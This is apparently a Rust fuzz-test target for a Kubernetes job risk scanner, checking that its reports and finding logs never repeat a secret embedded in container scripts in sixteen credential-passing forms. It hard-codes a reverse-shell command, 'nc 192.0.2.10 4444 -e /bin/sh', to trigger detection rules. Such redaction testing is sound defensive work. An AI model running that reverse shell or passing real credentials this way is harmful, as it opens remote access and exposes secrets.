//! A secret that nobody else knows, in a place where secrets stand: nothing that is written repeats it.
//!
//! The first byte of the input chooses how the secret is written, the second where, and the rest is the script around
//! it, a zero byte in place of the secret.

use jobrisk::report::{FindingLine, report};
use jobrisk::workload::decode::from_json;
use jobrisk::workload::{Kind, Workload};
use serde_json::{Value, json};

use super::records::whole;
use super::{invariants, manifest};

/// How secrets are written; `@` stands for the secret. Each is a piece of a script.
pub const SHAPES: [&str; 16] = [
    "--password=@",
    "--password @",
    "--token '@'",
    "DB_PASSWORD=@",
    "export API_TOKEN=\"@\";",
    "-d '{\"api_key\": \"@\"}'",
    "https://user:@@host.example.test/x",
    "postgres://admin:@@db/x",
    "-H 'Authorization: Bearer @'",
    "-H \"X-Auth-Token: @\"",
    "mysql -uroot -p@ db",
    "curl -u admin:@ http://192.0.2.1/",
    "sshpass -p @ ssh host",
    "AWS_SECRET_ACCESS_KEY=@ aws s3 ls",
    "$SETTING",
    "${SETTING}",
];

/// Where the script stands.
pub const PLACES: u8 = 6;

/// What makes rules show the command that the secret stands in.
const ATTACK: &str = "nc 192.0.2.10 4444 -e /bin/sh";

/// One secret.
pub fn run(input: &[u8]) {
    let [shape, place, text @ ..] = input else { return };
    let secret = secret(input);
    let shape = SHAPES[usize::from(*shape) % SHAPES.len()].replacen('@', &secret, 1);
    let text = String::from_utf8_lossy(text);
    let (before, after) = text.split_once('\0').unwrap_or((&text, ""));
    let script = format!("{before}\n{ATTACK} {shape}\n{after}");
    let kind = if *place % 2 == 0 { Kind::Job } else { Kind::CronJob };
    let object = whole(kind, "n", &pod(*place % PLACES, &script, &secret));
    let bytes = serde_json::to_vec(&object).unwrap();
    // A part is too much, too: excerpts are cut.
    let part = &secret[..6];
    if text.contains(part) {
        return;
    }

    let workload = Workload::from_object(kind, &from_json(&bytes).unwrap());
    invariants::judge(workload.clone());
    let written = report(&jobrisk::assess::assess_workload(workload));
    let line = FindingLine::new(String::new(), kind, &written, None).unwrap();
    let said = [
        ("report".to_owned(), serde_json::to_string(&written).unwrap()),
        ("finding log".to_owned(), serde_json::to_string(&line).unwrap()),
        manifest::output(&manifest::results(&bytes), text.len()),
    ];
    for (what, text) in said {
        assert!(!text.contains(part), "{what} repeats {secret} of {script:?}: {text}");
    }
}

fn pod(place: u8, script: &str, secret: &str) -> Value {
    let words: Vec<&str> = script.split_whitespace().collect();
    let shell = json!(["/bin/sh", "-c", script]);
    let mut container = json!({
        "name": "c",
        "image": "alpine",
        "env": [{"name": "SETTING", "value": secret}],
    });
    match place {
        0 => container["command"] = shell,
        1 => container["args"] = shell,
        2 => container["lifecycle"] = json!({"preStop": {"exec": {"command": shell}}}),
        3 => container["command"] = json!(words),
        4 => container["command"] = json!(["/bin/bash", "-lc", "$(SCRIPT)"]),
        _ => {
            container["command"] = json!(["sh", "-c", format!("{ATTACK} \"$SETTING\" $(SETTING)\n{script}")])
        }
    }
    if place == 4 {
        container["env"].as_array_mut().unwrap().push(json!({"name": "SCRIPT", "value": script}));
    }
    json!({"containers": [container]})
}

/// Made of the input, so that no text around it can hold it by design; without vowels, so that none does by chance.
fn secret(input: &[u8]) -> String {
    const LETTERS: &[u8] = b"bcdfghjklmnpqrtvwxz";
    let mut state = 0xcbf2_9ce4_8422_2325_u64;
    for byte in input {
        state = (state ^ u64::from(*byte)).wrapping_mul(0x0100_0000_01b3);
    }
    let mut text = String::new();
    for _ in 0..12 {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        text.push(char::from(LETTERS[usize::try_from(state >> 33).unwrap() % LETTERS.len()]));
    }
    text
}
